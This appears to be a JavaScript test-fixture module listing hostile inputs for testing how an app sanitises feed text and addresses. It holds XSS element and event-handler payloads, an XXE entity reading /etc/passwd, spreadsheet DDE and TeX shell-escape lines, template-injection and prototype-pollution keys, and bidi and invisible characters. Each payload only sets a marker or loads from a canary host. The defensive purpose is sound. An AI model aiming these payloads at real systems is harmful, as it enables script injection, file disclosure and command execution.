// @ts-check
// What a hostile feed may put where text or an address belongs, by kind: the parts that payloads are put together from. Data only;
// every payload that could run, runs `hit`, and every one that could load, loads from `elsewhere`.

/** Marks the page it runs in; tests look for the mark. */
export const hit = 'window.__hit=1';

/** A host nobody serves: the recording proxy refuses it and remembers. */
export const elsewhere = 'canary.example';

const load = `https://${elsewhere}/x`;

export const elements = [
  `<script>${hit}</script>`,
  `<script src=${load}.js></script>`,
  `<svg><script>${hit}</script></svg>`,
  `<math><mtext><style><img src=x onerror=${hit}></style></mtext></math>`,
  `<iframe src="javascript:${hit}"></iframe>`,
  `<iframe srcdoc="<script>top.__hit=1</script>"></iframe>`,
  `<object data=${load}></object>`,
  `<embed src=${load}>`,
  `<link rel=stylesheet href=${load}.css>`,
  `<style>@import '${load}.css';*{display:none}</style>`,
  `<base href=https://${elsewhere}/>`,
  `<meta http-equiv=refresh content="0;url=${load}">`,
  `<form action=${load}><button formaction="javascript:${hit}">Save</button></form>`,
  `<template shadowrootmode=open><script>${hit}</script></template>`,
  `<portal src=${load}></portal>`,
  `<papergloss-card></papergloss-card>`,
  `<isindex action=javascript:${hit} type=image>`,
  `<noscript><p title="</noscript><img src=x onerror=${hit}>">`,
  `<textarea></textarea><img src=x onerror=${hit}>`,
  `<xmp><p title="</xmp><svg/onload=${hit}>">`,
  `<![CDATA[<img src=x onerror=${hit}>]]>`,
  `<!--><img src=x onerror=${hit}>-->`,
  `<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>`,
  `<match>a</match><url>${load}</url><dim>`,
];

export const carriers = ['img', 'svg', 'video', 'audio', 'body', 'details', 'input', 'marquee', 'a', 'div'];

export const handlers = [
  'onerror',
  'onload',
  'onfocus',
  'ontoggle',
  'onpointerenter',
  'onanimationstart',
  'onclick',
  'onbeforetoggle',
];

/** How text breaks out of what it was put into: an attribute, an element, a comment, a script. */
export const breakouts = [
  '',
  '">',
  "'>",
  '-->',
  '</title>',
  '</script>',
  '</p></section>',
  '`;',
  '\\">',
  '&quot;>',
];

export const bidiControls = [
  '\u202e',
  '\u202d',
  '\u202b',
  '\u202a',
  '\u2066',
  '\u2067',
  '\u2068',
  '\u200f',
  '\u200e',
  '\u061c',
];

export const invisible = [
  ...[
    '\u200b',
    '\u200c',
    '\u200d',
    '\u2060',
    '\u2063',
    '\ufeff',
    '\u00ad',
    '\u034f',
    '\u115f',
    '\u1160',
    '\u17b4',
  ],
  ...[
    '\u180e',
    '\u2800',
    '\u3164',
    '\uffa0',
    '\ufe0f',
    '\u{e0020}',
    '\u{e0101}',
    '\u{1d173}',
    '\u0301',
    '\u00a0',
    '\u3000',
  ],
];

/** What other programs would run: spreadsheets, TeX, Markdown, templates, shells. */
export const otherLanguages = [
  '=HYPERLINK("https://canary.example/x","open")',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-2+3',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  '＝1+1',
  '|calc',
  ';=1',
  '"=1+1',
  '\\input{/etc/passwd}',
  '\\write18{calc}',
  '\\immediate\\openout1=x',
  '\\def\\x{\\x}\\x',
  '}\n@misc{other, title = {x}}',
  '$\\loop\\iftrue\\repeat$',
  '[a](javascript:window.__hit=1)',
  '![a](https://canary.example/x.png)',
  '<https://canary.example/x>',
  '\n\n# A heading\n\n- [ ] a task\n---\ntitle: x\n---',
  '[[canary]] ![[canary]] #canary %%a%%',
  '```dataviewjs\nwindow.__hit=1\n```',
  '`= this.canary`',
  '{{constructor.constructor("window.__hit=1")()}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is meant to stay as it is
  '${window.__hit=1}',
  '$1 $& $` $$ $COUNT$ %s %1$s {0}',
  '<%= 1 %>',
  '\r\nTY  - JOUR\r\nER  - ',
  '"}],"papers":[{"id":"2412.17747"',
];

export const prototypeKeys = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  'valueOf',
  'toJSON',
  'then',
];

export const brokenUnicode = [
  '\ud800',
  '\udfff',
  'a\ud83d',
  '\ude00b',
  '\udc00\ud800',
  '\ufffe',
  '\uffff',
  '\ufdd0',
  '\u{1ffff}',
  '\u0000',
  '\u0007\u001b[31m',
  '\u0085',
  '\u2028',
  '\u2029',
  `Z${'\u0335\u0321\u0489'.repeat(400)}`,
  '\u0e49'.repeat(2_000),
  '\ud83d\udc68\u200d'.repeat(500),
];

/** Not texts at all. */
export const wrongTypes = [
  null,
  true,
  false,
  0,
  -1,
  1e308,
  0.5,
  [],
  {},
  [[]],
  [null],
  { name: {} },
  [{ name: [] }],
  ['a', 7],
];
